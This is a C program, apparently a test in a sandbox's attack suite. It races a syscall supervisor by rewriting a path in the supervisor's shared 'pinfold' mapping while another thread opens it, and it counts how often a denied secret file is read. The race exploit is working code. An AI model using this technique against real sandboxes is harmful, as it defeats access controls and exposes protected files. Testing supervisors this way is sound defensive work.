/*
 * race_slot DIRECTORY ATTEMPTS: the supervisor itself is the peer that rewrites.
 *
 * Where arguments are pinned, the memory that the supervisor writes them to is mapped in the
 * caller, under the name "pinfold". One thread opens secret-A and secret-D in turn, so that the
 * supervisor writes one name over the other in some slot, again and again. Another thread passes
 * the address of that slot as a path of its own. A supervisor that takes a path for granted because
 * it lies in memory that nobody else can write judges one name, and then lets the call go while it
 * writes the other.
 *
 * Attempts are the opens of both threads.
 */
#include "attack.h"

#include <pthread.h>
#include <stdatomic.h>
#include <stdint.h>

enum { SLOT = 8192, TRIES = 16 };

struct caller {
    long allowed, refused, escapes, other;
};

static const char *names[2];    /* allowed, denied */
static const char *pin;
static size_t pin_size;
static _Atomic long left;

/* Finds the pin among the mappings; there is none before the first call. */
static void find_pin(void)
{
    FILE *maps = fopen("/proc/self/maps", "re");
    char line[PATH_MAX + 100], rights[5];
    uintptr_t start, end;

    if (maps == NULL)
        attack_unsupported("/proc/self/maps");
    while (fgets(line, sizeof line, maps) != NULL)
        if (strstr(line, "/memfd:pinfold") != NULL &&
            sscanf(line, "%lx-%lx %4s", &start, &end, rights) == 3 && end - start > pin_size) {
            pin = (const char *)start;
            pin_size = end - start;
        }
    fclose(maps);
}

static void count(struct caller *caller, int fd)
{
    char content;

    if (fd < 0) {
        if (errno == EACCES)
            caller->refused++;
        else
            caller->other++;
        return;
    }
    content = attack_content(fd);
    close(fd);
    if (content == 'D')
        caller->escapes++;
    else if (content == 'A')
        caller->allowed++;
    else
        caller->other++;
}

static void *open_in_turn(void *counts)
{
    uint64_t random = 0x9e3779b97f4a7c15;

    while (left-- > 0) {
        random ^= random << 13;
        random ^= random >> 7;
        random ^= random << 17;
        count(counts, open(names[random >> 63], O_RDONLY | O_CLOEXEC));
    }
    return NULL;
}

/* Returns whether a slot holds one of the names; they differ in the last letter. */
static int holds_a_name(const char *slot)
{
    size_t length = strlen(names[0]);

    return memcmp(slot, names[0], length - 1) == 0 && slot[length] == 0;
}

/* Returns how many attempts that made. */
static long open_slots(struct caller *counts)
{
    long made = 0;

    while (left > 0)
        for (size_t at = 0; at < pin_size; at += SLOT)
            for (int i = 0; i < TRIES && holds_a_name(pin + at) && left-- > 0; i++, made++)
                count(counts, open(pin + at, O_RDONLY | O_CLOEXEC));
    return made;
}

int main(int argc, char **argv)
{
    static _Alignas(64) struct caller first, second;
    pthread_t thread;
    long made;
    int fd;

    attack_begin(argc, argv);
    names[0] = attack_path("files/secret-A");
    names[1] = attack_path("files/secret-D");
    fd = open(names[0], O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        attack_fail(names[0]);
    close(fd);
    find_pin();
    if (pin == NULL)
        attack_unsupported("pin");
    left = attack.attempts;
    if (pthread_create(&thread, NULL, open_in_turn, &first) != 0)
        attack_fail("pthread_create");
    made = open_slots(&second);
    pthread_join(thread, NULL);
    if (made == 0) {
        fprintf(stderr, "no slot ever held a name\n");
        return 1;
    }
    attack.allowed = first.allowed + second.allowed;
    attack.refused = first.refused + second.refused;
    attack.escapes = first.escapes + second.escapes;
    attack.other = first.other + second.other;
    return attack_report();
}
